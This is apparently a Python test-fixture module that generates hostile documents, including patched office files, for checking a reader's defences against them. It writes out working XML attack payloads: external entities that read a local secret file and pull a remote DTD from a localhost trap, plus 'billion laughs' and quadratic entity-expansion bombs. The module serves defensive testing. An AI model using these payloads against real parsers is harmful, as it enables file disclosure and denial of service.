"""Documents that attack whoever reads them, made on the spot: each points at a trap, a secret, or a limit.

``TRAP`` is written as ``http://127.0.0.1:PORT/NAME`` and names under ``.invalid``, so that nothing can ever leave the machine;
the secret is a file beside the documents. The ones marked ``leads`` are shown to lead there by a careless reader.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from fakes import papers

WORDS = "Compte rendu du conseil."
Maker = Callable[["Target"], bytes]


@dataclass(frozen=True, slots=True)
class Target:
    """What the documents aim at."""

    web: str
    """An address of the trap on this machine."""
    secret: str
    """The path of a file that nobody may read."""
    outside: str
    """A folder in which nothing may appear."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile file. ``reads``: its words must come back, for it is a fair document but for the attack."""

    name: str
    make: Maker
    leads: bool = False
    reads: bool = False


ATTACKS: list[Attack] = []


def attack(name: str, *, leads: bool = False, reads: bool = False) -> Callable[[Maker], Maker]:
    """Enters a maker into the list; ``name`` is the name of the file."""

    def enter(make: Maker) -> Maker:
        ATTACKS.append(Attack(name, make, leads, reads))
        return make

    return enter


def patched(document: bytes, changes: Mapping[str, str | bytes | Callable[[str], str]]) -> bytes:
    """An office file with parts added, or changed by a function of their text."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        parts: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    for name, change in changes.items():
        old = parts.get(name, b"")
        parts[name] = change(old.decode() if isinstance(old, bytes) else old) if callable(change) else change
    return papers.packed(parts, first="mimetype" if "mimetype" in parts else "")


def doctype(body: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [{body}]>'


def entities(target: Target) -> str:
    """External entities: a file of this machine, an address, and a parameter entity that would bring in more."""
    return doctype(
        f'<!ENTITY secret SYSTEM "file://{target.secret}"><!ENTITY page SYSTEM "{target.web}/entity">'
        f'<!ENTITY % more SYSTEM "{target.web}/more.dtd"> %more;'
    )


LAUGHS = doctype(
    '<!ENTITY a "ha ha ha ha ha ha ha ha ha ha ">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 12}">' for n in range(9))
)
"""A billion laughs: entities of entities, 12⁹ of them."""
BLOW_UP = doctype(f'<!ENTITY a "{"ha" * 40_000}">')
"""Quadratic: one long entity, used thousands of times."""
